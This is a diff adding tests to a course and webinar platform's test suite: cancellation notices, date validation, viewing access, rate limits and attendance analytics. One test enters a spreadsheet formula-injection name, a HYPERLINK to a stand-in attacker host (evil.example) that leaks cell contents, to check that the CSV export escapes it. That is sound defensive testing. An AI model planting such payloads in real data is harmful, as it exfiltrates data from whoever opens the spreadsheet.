@@ -177,6 +177,35 @@ describe('organising and moderating a course', () => {
     expect(list.map((c) => c.id)).not.toContain(approved.id);
   });
 
+  it('cancels an event with a seat taken and people waiting: each is told once', async () => {
+    const owner = await t.session();
+    const people = await Promise.all([1, 2, 3].map(() => t.session()));
+    const id = await insertCourse({ userId: owner.user.id, startOffset: 5 * DAY, max: 1, title: `Fullt ${token}` });
+    const statuses = [];
+    for (const p of people) statuses.push((await t.call(ep.subscribe, { as: p, params: { id } })).parsed.data.status);
+    expect(statuses).toEqual(['attending', 'waiting', 'waiting']);
+    const cancelled = await t.call(ep.cancel, { as: owner, params: { id } });
+    expect(cancelled.status).toBe(200);
+    expect(cancelled.parsed.data.status).toBe('cancelled');
+    await settleJobs(t);
+    for (const p of people) {
+      expect((await notificationsOf(p.user.id)).map((n) => [n.kind, n.entity_id])).toEqual([['course_cancelled', id]]);
+      expect((await mailsTo(p.user.id)).map((m) => m.template)).toEqual(['course_cancelled']);
+    }
+    expect(await notificationsOf(owner.user.id)).toEqual([]);
+  });
+
+  it('refuses a start in year 9999 (was a 500) on create and edit, in the asked language', async () => {
+    const owner = await t.session();
+    const created = await t.call(ep.create, { as: owner, body: courseBody({ start_at: '9999-12-31T23:00:00Z', subscription_deadline: null }), locale: 'en' });
+    expect([created.status, created.validation.errors.start_at]).toEqual([422, ['The date must be between the years 1900 and 2100.']]);
+    const draft = await createCourse(owner);
+    const edited = await t.call(ep.update, { as: owner, params: { id: draft.id }, body: courseBody({ start_at: '9999-12-31T23:00:00Z', subscription_deadline: '0000-01-01T00:00:00Z' }) });
+    expect(edited.status).toBe(422);
+    expect(edited.validation.errors).toMatchObject({ start_at: ['Datoen må ligge mellom år 1900 og 2100.'], subscription_deadline: ['Datoen må ligge mellom år 1900 og 2100.'] });
+    expect((await t.call(ep.myShow, { as: owner, params: { id: draft.id } })).parsed.data.start_at).toBe(draft.start_at);
+  });
+
   it('refuses bad input with messages in the asked language', async () => {
     const me = await t.session();
     const fails = async (body: Partial<CourseBody>, field: string, message?: string) => {
@@ -487,11 +516,80 @@ describe('access', () => {
 });
 
 describe('viewing analytics', () => {
+  /** An approved webinar with a video link, and a seat on it for each of `seated`. */
+  async function watchable(o: CourseRow, ...seated: number[]) {
+    const id = await insertCourse(o);
+    await t.db.update(schema.courses).set({ video_link: 'https://meet.example.no/webinar/1', attendees_count: seated.length }).where(eq(schema.courses.id, id));
+    if (seated.length > 0) await t.db.insert(schema.courseSubscriptions).values(seated.map((user_id) => ({ course_id: id, user_id })));
+    return id;
+  }
+
+  it('opens viewings only of events that can be watched, for those who may watch them', async () => {
+    const owner = await t.session();
+    const me = await t.session();
+    const at = { startOffset: -5 * MINUTE, userId: owner.user.id };
+    const refused = async (id: number) => {
+      const res = await t.call(ep.enteredOn, { as: me, params: { id }, locale: 'en' });
+      return [res.status, res.error.message];
+    };
+    const nothing = [409, 'There is nothing for you to watch here: only webinars with a video, with a seat, or as a recording after the end.'];
+    // The hostile tester's case: an approved in-person course, no seat, nothing to play.
+    expect(await refused(await insertCourse({ ...at, type: 'course', credit: 2 }))).toEqual(nothing);
+    // A lunch meeting with a seat, a webinar with nothing to play: still nothing to watch.
+    const lunch = await insertCourse({ ...at, type: 'lunch_meeting' });
+    await t.db.insert(schema.courseSubscriptions).values({ course_id: lunch, user_id: me.user.id });
+    expect(await refused(lunch)).toEqual(nothing);
+    const empty = await insertCourse(at);
+    await t.db.insert(schema.courseSubscriptions).values({ course_id: empty, user_id: me.user.id });
+    expect(await refused(empty)).toEqual(nothing);
+    // A live webinar without a seat: not until it has ended (then the replay is open to every member).
+    expect(await refused(await watchable(at))).toEqual(nothing);
+    expect((await t.call(ep.enteredOn, { as: me, params: { id: await watchable({ ...at, startOffset: -2 * HOUR }) } })).status).toBe(201);
+    expect((await t.call(ep.enteredOn, { as: me, params: { id: await watchable(at, me.user.id) } })).status).toBe(201);
+    expect(await t.db.select().from(schema.courseViewRecords).where(eq(schema.courseViewRecords.user_id, me.user.id))).toHaveLength(2);
+  });
+
+  it('limits opening viewings to 30 in 10 minutes per person (429 with Retry-After)', async () => {
+    const owner = await t.session();
+    const me = await t.session();
+    const id = await watchable({ title: `Mange ${token}`, startOffset: -5 * MINUTE, userId: owner.user.id }, me.user.id);
+    const statuses: number[] = [];
+    for (let i = 0; i < 31; i++) statuses.push((await t.call(ep.enteredOn, { as: me, params: { id } })).status);
+    expect(statuses.slice(0, 30).every((s) => s === 201)).toBe(true);
+    expect(statuses[30]).toBe(429);
+  });
+
+  it('writes a name that is a spreadsheet formula as text in the attendance CSV', async () => {
+    const owner = await t.session();
+    const evil = await t.session({ firstName: '=HYPERLINK("https://evil.example/?x="&A1,"Click")', lastName: '-2+3' });
+    const id = await watchable({ title: `Formel ${token}`, startOffset: DAY, userId: owner.user.id }, evil.user.id);
+    const csv = await t.http.get(`/api/my/courses/${id}/attendance.csv`).set('Authorization', `Bearer ${owner.accessToken}`);
+    const lines = csv.text.replace(/^\uFEFF/, '').trim().split('\n');
+    expect(lines[1]!.startsWith(`"'=HYPERLINK(""https://evil.example/?x=""&A1,""Click"") -2+3",`)).toBe(true);
+    expect(lines[1]!.endsWith(',0,0')).toBe(true);
+  });
+
+  it('counts one person once: five viewings open at once are 30 minutes, not 150', async () => {
+    const owner = await t.session();
+    const me = await t.session();
+    const id = await watchable({ title: `Faner ${token}`, startOffset: -2 * HOUR, duration: 30, userId: owner.user.id }, me.user.id);
+    const [course] = await t.db.select().from(schema.courses).where(eq(schema.courses.id, id));
+    const at = (minutes: number) => new Date(course!.start_at.getTime() + minutes * MINUTE);
+    await t.db.insert(schema.courseViewRecords).values(
+      [0, 1, 2, 3, 4].map((i) => ({ course_id: id, user_id: me.user.id, entered_at: at(i), left_at: at(30 + 10 + i) })),
+    );
+    const res = await t.call(ep.analytics, { as: owner, params: { id } });
+    expect(res.parsed.data).toMatchObject({ attended: 1, live_minutes: 30, replay_minutes: 14, total_minutes: 44, average_minutes: 44, share_to_end: 1 });
+    const csv = await t.http.get(`/api/my/courses/${id}/attendance.csv`).set('Authorization', `Bearer ${owner.accessToken}`).set('X-localization', 'en');
+    const lines = csv.text.replace(/^\uFEFF/, '').trim().split('\n');
+    expect(lines.slice(1).map((l) => l.split(',').slice(-2).join(','))).toEqual(['30,14']);
+  });
+
   it('opens a viewing (201, id, token) and moves its end with each beacon; bad tokens are refused', async () => {
     const owner = await t.session();
     const me = await t.session();
-    const id = await insertCourse({ title: `Direkte ${token}`, startOffset: -5 * MINUTE, userId: owner.user.id });
-    const other = await insertCourse({ title: `Annen ${token}`, startOffset: -5 * MINUTE, userId: owner.user.id });
+    const id = await watchable({ title: `Direkte ${token}`, startOffset: -5 * MINUTE, userId: owner.user.id }, me.user.id);
+    const other = await watchable({ title: `Annen ${token}`, startOffset: -5 * MINUTE, userId: owner.user.id }, me.user.id);
     const res = await t.call(ep.enteredOn, { as: me, params: { id } });
     expect(res.status).toBe(201);
     const { id: recordId, token: viewToken, expires_in } = res.parsed.data;
